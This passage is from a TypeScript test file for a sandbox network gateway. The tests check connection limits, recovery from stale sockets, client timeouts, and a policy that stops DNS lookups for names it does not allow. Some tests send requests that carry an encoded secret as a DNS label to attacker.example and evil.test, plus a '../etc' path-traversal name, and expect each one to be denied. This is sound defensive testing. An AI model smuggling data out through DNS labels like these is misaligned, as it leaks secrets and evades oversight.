    expect(t.status).toBe(200)
    t.socket.destroy()
  })
  it('refuses invalid sandbox names on the control socket', async () => {
    await expect(new GatewayClient(data).reload('../etc')).rejects.toThrow(/invalid sandbox name/)
  })
})

describe('limits and robustness', () => {
  it('drops connections over the per-sandbox limit and logs it', async () => {
    makeSandbox('tiny')
    setPolicy('tiny', policyYaml(PORT))
    const g2data = data
    const g2 = new Gateway({ dataDir: g2data, rescanIntervalMs: 0, limits: { maxConnections: 2 }, testHooks: { resolve, permitAddress: ip => ip.text === '127.0.0.1' } })
    // a second gateway on the same data dir would fight over sockets; stop serving tiny in the first
    await new GatewayClient(data).remove('tiny')
    const p = sandboxSocket(data, 'tiny')
    await (g2 as unknown as { reload(n: string): Promise<unknown> }).reload('tiny')
    const a = await tunnel(`allowed.test:${PORT}`, p)
    const b = await tunnel(`allowed.test:${PORT}`, p)
    expect([a.status, b.status]).toEqual([200, 200])
    const c = await raw(`CONNECT allowed.test:${PORT} HTTP/1.1\r\nHost: allowed.test:${PORT}\r\n\r\n`, p, 500)
    expect(c).toBe('')
    a.socket.destroy()
    b.socket.destroy()
    expect(auditText('tiny')).toMatch(/connection limit of 2 reached/)
    await g2.remove('tiny')
    rmSync(sandboxDir(data, 'tiny'), { recursive: true, force: true })
  })
  it('a stale socket file from a dead gateway is replaced at start', async () => {
    makeSandbox('stale')
    const path = sandboxSocket(data, 'stale')
    // a crashed gateway: the socket file stays, nobody listens
    const dead = spawn('socat', [`UNIX-LISTEN:${path}`, 'STDOUT'], { stdio: 'ignore' })
    for (let i = 0; i < 40 && !existsSync(path); i++) await new Promise(r => setTimeout(r, 25))
    expect(existsSync(path)).toBe(true)
    // (If socat had already exited, 'exit' would never fire again: wait only while it runs.)
    if (dead.exitCode === null && dead.signalCode === null) {
      const exited = new Promise(r => dead.once('exit', r))
      dead.kill('SIGKILL')
      await exited
    }
    const r = await new GatewayClient(data).reload('stale')
    expect(r.status).toBe('NO_POLICY')
    expect(statSync(path).isSocket()).toBe(true)
    expect((await tunnel(`allowed.test:${PORT}`, path)).status).toBe(403)
    await new GatewayClient(data).remove('stale')
    rmSync(sandboxDir(data, 'stale'), { recursive: true, force: true })
  })
  it('the client reports a missing gateway quickly instead of hanging', async () => {
    const t0 = Date.now()
    await expect(new GatewayClient(join(data, 'nowhere')).ping()).rejects.toMatchObject({ code: 'GATEWAY_DOWN' })
    expect(Date.now() - t0).toBeLessThan(1000)
  })
  it('the client times out on a gateway that accepts but never answers', async () => {
    const dir = join(data, 'wedged')
    mkdirSync(join(dir, 'gateway'), { recursive: true })
    const mute = netCreateServer(s => s.resume()) // reads (so it sees the client leave), never answers
    await new Promise<void>(r => mute.listen(gatewayControlSocket(dir), r))
    await expect(new GatewayClient(dir, { timeoutMs: 200 }).ping()).rejects.toMatchObject({ code: 'GATEWAY_TIMEOUT' })
    await new Promise<void>(r => mute.close(() => r()))
  })
})

describe('curl through a socat bridge (the production path in miniature)', () => {
  it('curl --proxy via socat TCP→unix reaches allowed hosts and gets 403 for others', async () => {
    const port = 20000 + Math.floor(Math.random() * 20000)
    const socat = spawn('socat', [`TCP-LISTEN:${port},bind=127.0.0.1,fork,reuseaddr`, `UNIX-CONNECT:${sock}`], { stdio: 'ignore' })
    try {
      for (let i = 0; i < 40; i++) {
        const ok = await new Promise<boolean>(r => {
          const c = netConnect(port, '127.0.0.1', () => {
            c.destroy()
            r(true)
          })
          c.on('error', () => r(false))
        })
        if (ok) break
        await new Promise(r => setTimeout(r, 25))
      }
      const curl = (args: string[]) =>
        new Promise<{ code: number | null; out: string; err: string }>(r => {
          execFile('curl', ['-sS', '--max-time', '5', '--proxy', `http://127.0.0.1:${port}`, ...args], (e, out, err) => r({ code: e ? (e as { code?: number }).code ?? 1 : 0, out, err }))
        })
      const ok = await curl([`http://allowed.test:${PORT}/via-curl`])
      expect(JSON.parse(ok.out)).toMatchObject({ url: '/via-curl' })
      const tunnelled = await curl(['--proxytunnel', `http://allowed.test:${PORT}/via-tunnel`])
      expect(JSON.parse(tunnelled.out)).toMatchObject({ url: '/via-tunnel' })
      const denied = await curl(['-o', '/dev/null', '-w', '%{http_code}', `http://evil.test:${PORT}/`])
      expect(denied.out).toBe('403')
      const deniedTunnel = await curl(['--proxytunnel', `http://evil.test:${PORT}/`])
      expect(deniedTunnel.err).toMatch(/403/)
    } finally {
      socat.kill()
    }
  })
})

describe('DNS only for allowed names (issue 9 finding 8)', () => {
  const secret = 'c2vjcmv0lxrva2vu' // what an agent would smuggle out as a DNS label (hosts are logged lower-case)
  beforeAll(async () => {
    makeSandbox('dnsleak')
    setPolicy('dnsleak', `version: 1
network_policies:
  lan:
    endpoints:
      - { port: ${PORT}, allowed_ips: [10.77.0.0/16] }
`)
    await new Promise(r => setTimeout(r, 400)) // rescan picks the new sandbox up
  })
  const dnsSock = () => sandboxSocket(data, 'dnsleak')
  const dnsAudit = () => auditText('dnsleak')

  it('CONNECT to <secret>.attacker.example with a hostless allowed_ips endpoint: denied, logged, never resolved', async () => {
    lookups.length = 0
    const t = await tunnel(`${secret}.attacker.example:${PORT}`, dnsSock())
    expect(t.status).toBe(403)
    t.socket.destroy()
    expect(lookups).toEqual([])
    expect(dnsAudit()).toMatch(new RegExp(`NET:OPEN \\[MED\\] DENIED -> ${secret}\\.attacker\\.example:${PORT}`))
  })

  it('plain HTTP to the same kind of name: denied, never resolved', async () => {
    lookups.length = 0
    const r = await proxied({ url: `http://${secret}2.attacker.example:${PORT}/`, socketPath: dnsSock() })
    expect(r.status).toBe(403)
    expect(lookups).toEqual([])
    expect(dnsAudit()).toMatch(new RegExp(`DENIED GET http://${secret}2\\.attacker\\.example:${PORT}/`))
  })

  it('a name no policy names is never resolved either (demo sandbox)', async () => {
    lookups.length = 0
    const t = await tunnel(`${secret}.not-in-policy.example:${PORT}`)
    expect(t.status).toBe(403)
    t.socket.destroy()
    expect(lookups).toEqual([])
  })

  it('an allowed name is resolved (the lookup happens only after the host matched)', async () => {
    lookups.length = 0
    const r = await proxied({ url: `http://allowed.test:${PORT}/x` })
    expect(r.status).toBe(200)
    expect(lookups).toEqual(['allowed.test'])
  })
})
